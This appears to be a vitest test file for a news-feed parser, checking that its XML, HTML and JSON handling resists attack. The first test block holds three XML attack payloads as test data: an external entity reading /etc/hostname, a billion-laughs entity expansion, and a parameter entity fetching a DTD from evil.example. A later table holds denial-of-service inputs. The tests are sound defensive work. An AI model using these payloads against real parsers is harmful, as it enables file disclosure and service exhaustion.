import { describe, expect, test } from "vitest";
import { FormatError } from "../../src/formats/format-error.ts";
import { bodyOf, parseAll, parseOne } from "./parse.ts";

const prose = "The dockers of Velm walked out on Monday in a dispute over night shifts, the union said.";
const item = (text: string) => `<item><title>A</title><description>${text}</description></item>`;

describe("XML reaches nothing outside itself, and expands nothing", () => {
  const nitf = (doctype: string, text: string) =>
    `<?xml version="1.0"?>\n${doctype}\n<nitf><body><body.content><p>${text}</p></body.content></body></nitf>`;

  test("an external entity is not read", () => {
    const doctype = '<!DOCTYPE nitf [<!ENTITY file SYSTEM "file:///etc/hostname">]>';
    expect(() => parseOne(nitf(doctype, "&file;"))).toThrow(
      /line 3: &file; is an entity that the document would have to define/u,
    );
  });

  test("entities in entities are not expanded", () => {
    const levels = Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n};`.repeat(10)}">`).join("");
    expect(() => parseOne(nitf(`<!DOCTYPE nitf [<!ENTITY lol0 "lol">${levels}]>`, "&lol9;"))).toThrow(
      /&lol9; is an entity/u,
    );
  });

  test("a parameter entity of a feed harms nothing", () => {
    const doctype = '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>';
    expect(parseAll(`${doctype}<rss><channel>${item(prose)}</channel></rss>`)).toMatchObject([
      { story: { bodyText: prose } },
    ]);
  });
});

/** Milliseconds; generous, so that only what grows faster than the input fails. */
const patience = 60_000;

describe("time grows with the size of the input only", () => {
  test.each([
    ["elements nested 100,000 deep", `<html><body>${"<div>".repeat(100_000)}<p>${prose}`],
    ["unclosed elements of all kinds", `<html><body>${"<b><p><li><table><tr><td>".repeat(30_000)}${prose}`],
    ["an attribute of 10 MB", `<html><body><p class="${"related a ".repeat(1_000_000)}">${prose.repeat(3)}</p>`],
    ["a srcset of 10 MB", `<html><body><img srcset="${"a b ".repeat(2_500_000)}"><p>${prose.repeat(3)}</p>`],
    ["a word of 5 MB", `<html><body><p>${"a".repeat(5_000_000)}`],
    ["white space of 5 MB", `<html><body><p>${" ".repeat(5_000_000)}${prose.repeat(3)}`],
    ["ampersands", `<html><body><p>${"&".repeat(2_000_000)}`],
    ["open brackets", `<html><body>${"<".repeat(3_000_000)}`],
    ["closing tags", `<html><body>${"</p>".repeat(500_000)}`],
    ["many paragraphs", `<html><body>${`<p>${prose}</p>`.repeat(20_000)}`],
    ["many links", `<html><body>${`<li><a href="/x">${prose}</a></li>`.repeat(20_000)}`],
    ["a title of separators", `<html><head><title>${" - ".repeat(500_000)}</title></head><body><p>${prose}`],
    ["XML nested 100,000 deep", "<rss>".repeat(100_000)],
    ["an XML attribute of 10 MB", `<nitf a="${"x".repeat(10_000_000)}"/>`],
    ["references to nothing", `<nitf>${"&x;".repeat(1_000_000)}</nitf>`],
    ["open CDATA sections", `<rss>${"<![CDATA[".repeat(500_000)}</rss>`],
    ["a doctype without an end", `<!DOCTYPE nitf [${"[".repeat(3_000_000)}`],
    ["JSON nested 100,000 deep", `${"[".repeat(100_000)}${"]".repeat(100_000)}`],
    ["JSON that opens only", '{"a":'.repeat(300_000)],
    [
      "a script of broken JSON",
      `<html><script type="application/ld+json">${", ".repeat(1_000_000)}</script><p>${prose}`,
    ],
  ])(
    "%s",
    (_case, document) => {
      try {
        parseAll(document);
      } catch (error) {
        expect(error).toBeInstanceOf(FormatError);
      }
    },
    patience,
  );
});

test("what is nested too deep for a browser keeps its words", () => {
  const html = `<html><body><article><h1>Dockers walk out</h1>${"<div>".repeat(1000)}<p>${prose}</p><p>${prose} Again.</p>${"</div>".repeat(1000)}</article></body></html>`;
  expect(bodyOf(parseOne(html))).toEqual([prose, `${prose} Again.`]);
});
